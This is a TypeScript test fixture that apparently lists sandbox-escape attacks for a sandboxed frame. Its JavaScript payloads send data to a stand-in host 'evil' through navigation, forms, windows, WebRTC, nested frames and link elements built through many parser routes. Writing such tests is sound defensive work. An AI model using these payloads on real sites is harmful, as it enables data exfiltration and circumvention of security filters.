/** Attacks that leave the document: by navigation, by a realm of their own, by markup that makes what `createElement` refuses. */
import { type Attack, made } from './frame-attack.ts';

const RTC =
  "{ const p = new Peer({iceServers: [{urls: 'stun:127.0.0.1:' + udp}]}); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)) }";
const peerOf = (realm: string): string => `const Peer = ${realm}.RTCPeerConnection; ${RTC}`;
/** A page of theirs, as text, in which nothing was deleted. */
const PAGE = `'<script>const udp = ' + udp + ', Peer = RTCPeerConnection; ${RTC.replaceAll("'", '"')}</scr' + 'ipt><img src="' + evil + '/x">'`;

const NAVIGATION: readonly Attack[] = [
  { name: 'navigation', code: "window.location.href = evil + '/x?secret'" },
  { name: 'navigation by replace', code: "window.location.replace(evil + '/x?secret')" },
  { name: 'navigation by the document', code: "document.location.assign(evil + '/x?secret')" },
  {
    name: 'navigation by its own interface',
    code: "window.navigation.navigate(evil + '/x?secret').finished.catch(() => 0)",
  },
  { name: 'navigation by open', code: "window.open(evil + '/x', '_self')" },
  { name: 'navigation by the open of a document', code: "document.open(evil + '/x', '_self', '')" },
  { name: 'navigation by a link', code: made('a', "e.href = evil + '/x'; e.click()") },
  {
    name: 'navigation by a link in SVG',
    code: "const s = svg`<svg><a href=${evil + '/x'}><text>x</text></a></svg>`; document.body.append(s); s.querySelector('a').dispatchEvent(new window.MouseEvent('click', {cancelable: true}))",
  },
  { name: 'navigation by an area', code: made('area', "e.href = evil + '/x'; e.click()") },
  {
    name: 'navigation after another handler',
    code: "window.navigation.addEventListener('navigate', (e) => e.stopImmediatePropagation()); window.Event.prototype.preventDefault = () => {}; window.location.href = evil + '/x'",
  },
  {
    name: 'navigation with another Reflect',
    code: "window.Reflect = {apply: () => {}}; window.location.href = evil + '/x'",
  },
  {
    name: 'refresh',
    code: made('meta', "e.httpEquiv = 'refresh'; e.content = '0;url=' + evil + '/x'; document.head.append(e)"),
  },
  {
    name: 'page of a blob',
    code: `window.location.href = URL.createObjectURL(new Blob([${PAGE}], {type: 'text/html'}))`,
  },
  { name: 'page of an address', code: `window.location.href = 'data:text/html,' + encodeURIComponent(${PAGE})` },
  { name: 'download', code: made('a', "e.href = evil + '/x'; e.download = 'x'; e.click()") },
  // None ran in a sandboxed document, with or without policy.
  {
    name: 'script of an address',
    code: `window.location.href = 'javascript:' + encodeURIComponent('fetch("' + evil + '")')`,
    always: true,
  },
  // The sandbox: no forms, no windows, no navigation of the page around.
  { name: 'form', code: made('form', "e.action = evil + '/x'; e.method = 'post'; e.submit()"), always: true },
  {
    name: 'form of a button',
    code: made(
      'form',
      "const b = document.createElement('button'); b.formAction = evil + '/x'; e.append(b); b.click()",
    ),
    always: true,
  },
  { name: 'navigation of the page', code: "window.top.location = evil + '/x'", always: true },
  { name: 'window', code: "window.open(evil + '/x')", always: true },
  { name: 'window by a link', code: made('a', "e.href = evil + '/x'; e.target = '_blank'; e.click()"), always: true },
  { name: 'page by a link', code: made('a', "e.href = evil + '/x'; e.target = '_top'; e.click()"), always: true },
];

const REALMS: readonly Attack[] = [
  { name: 'WebRTC', code: peerOf('window') },
  { name: 'WebRTC by its old name', code: peerOf('({RTCPeerConnection: window.webkitRTCPeerConnection})') },
  // A frame within a sandboxed one has another opaque origin.
  { name: 'WebRTC of a nested frame', code: made('iframe', peerOf('e.contentWindow')), always: true },
  {
    name: 'WebRTC of a frame in a shadow',
    code: `const host = document.createElement('div'); document.body.append(host); const root = host.attachShadow({mode: 'open'}); root.innerHTML = '<iframe></iframe>'; ${peerOf('root.firstChild.contentWindow')}`,
    always: true,
  },
  { name: 'WebRTC of a nested script', code: made('iframe', `e.srcdoc = ${PAGE}`) },
  { name: 'frame', code: made('iframe', "e.src = evil + '/x'") },
  {
    name: 'frame of a blob',
    code: made('iframe', `e.src = URL.createObjectURL(new Blob([${PAGE}], {type: 'text/html'}))`),
  },
  { name: 'object', code: made('object', "e.data = evil + '/x'") },
  { name: 'embed', code: made('embed', "e.src = evil + '/x'") },
];

const LINK = `'<link rel="stylesheet" href="' + evil + '">'`;
const XML = `'<svg xmlns="http://www.w3.org/2000/svg"><h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="stylesheet" href="' + evil + '"/></svg>'`;
const DIV = "const box = document.createElement('div'); document.body.append(box);";

/** Each is another way to a link element, of which `preconnect` and `dns-prefetch` obey no policy. */
const LINKS: readonly Attack[] = [
  ...['stylesheet', 'prefetch', 'modulepreload'].map((rel) => ({
    name: rel,
    code: made('link', `e.rel = '${rel}'; e.href = evil`),
    refused: true,
  })),
  // Chromium heeds it in some of its editions only.
  { name: 'preconnect', code: made('link', "e.rel = 'preconnect'; e.href = evil"), always: true, refused: true },
  { name: 'preload', code: made('link', "e.rel = 'preload'; e.as = 'image'; e.href = evil + '/x'") },
  // Asked for by the page around, if at all.
  { name: 'icon', code: made('link', "e.rel = 'icon'; e.href = evil + '/x'"), always: true },
  { name: 'manifest', code: made('link', "e.rel = 'manifest'; e.href = evil + '/x'"), always: true },
  ...Object.entries({
    'of another namespace': "const e = document.createElementNS('http://www.w3.org/1999/xhtml', 'h:link')",
    'of another document': "const e = document.implementation.createHTMLDocument('').createElement('link')",
    'as the root of a document':
      "const e = document.adoptNode(document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'link').documentElement)",
    'with another Reflect':
      "let native; const { apply } = window.Reflect; window.Reflect = {...window.Reflect, apply: (f, t, a) => ((native = f), apply(f, t, a))}; document.createElement('b'); const e = apply(native ?? document.createElement, document, ['link'])",
    'that is a custom element':
      "class E extends window.HTMLLinkElement {}; window.customElements.define('x-link', E, {extends: 'link'}); const e = new E()",
    'that the document has': "const e = document.querySelector('link').cloneNode()",
  }).map(([name, code]) => ({
    name: `link ${name}`,
    code: `${code}; e.setAttribute('rel', 'stylesheet'); e.setAttribute('href', evil); document.head.append(e)`,
    refused: true,
  })),
  ...Object.entries({
    innerHTML: `${DIV} box.innerHTML = ${LINK}`,
    outerHTML: `${DIV} box.outerHTML = ${LINK}`,
    insertAdjacentHTML: `document.body.insertAdjacentHTML('beforeend', ${LINK})`,
    setHTMLUnsafe: `${DIV} box.setHTMLUnsafe(${LINK})`,
    setHTML: `${DIV} box.setHTML(${LINK}, {sanitizer: {elements: [{name: 'link', attributes: ['rel', 'href']}]}})`,
    'innerHTML of a shadow': `${DIV} box.attachShadow({mode: 'open'}).innerHTML = ${LINK}`,
    'a template': `const t = document.createElement('template'); t.innerHTML = ${LINK}; document.body.append(t.content.cloneNode(true))`,
    'a declared shadow': `${DIV} box.setHTMLUnsafe('<p><template shadowrootmode=open>' + ${LINK} + '</template></p>')`,
    createContextualFragment: `document.body.append(document.createRange().createContextualFragment(${LINK}))`,
    DOMParser: `document.body.append(document.importNode(new window.DOMParser().parseFromString(${LINK}, 'text/html').querySelector('link')))`,
    'DOMParser of XML': `document.body.append(new window.DOMParser().parseFromString(${XML}, 'image/svg+xml').documentElement)`,
    parseHTMLUnsafe: `document.body.append(window.Document.parseHTMLUnsafe(${LINK}).querySelector('link'))`,
    'document.write': `document.write(${LINK})`,
    'a foreign object': `${DIV} box.innerHTML = '<svg><foreignObject>' + ${LINK} + '</foreignObject></svg>'`,
    'an entity of XML': `document.body.append(new window.DOMParser().parseFromString('<!DOCTYPE p [<!ENTITY e "&#60;link xmlns=\\'http://www.w3.org/1999/xhtml\\' rel=\\'stylesheet\\' href=\\'' + evil + '\\'/>">]><p xmlns="http://www.w3.org/1999/xhtml">&e;</p>', 'application/xml').documentElement)`,
    XMLHttpRequest: `const x = new window.XMLHttpRequest(); x.open('GET', URL.createObjectURL(new Blob([${LINK}], {type: 'text/html'}))); x.responseType = 'document'; await new Promise((r) => { x.onload = r; x.send() }); document.body.append(x.response.querySelector('link'))`,
    XSLT: `const p = new window.XSLTProcessor(); p.importStylesheet(new window.DOMParser().parseFromString('<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/"><x:element name="link"><x:attribute name="rel">stylesheet</x:attribute><x:attribute name="href">' + evil + '</x:attribute></x:element></x:template></x:stylesheet>', 'text/xml')); document.body.append(p.transformToFragment(document.implementation.createDocument('', 'a'), document))`,
    'html of cells': 'document.body.append(html`<link rel=stylesheet href=${evil}>`)',
  }).map(([name, code]) => ({ name: `link by ${name}`, code, refused: true })),
];

export const ESCAPES: readonly Attack[] = [...NAVIGATION, ...REALMS, ...LINKS];
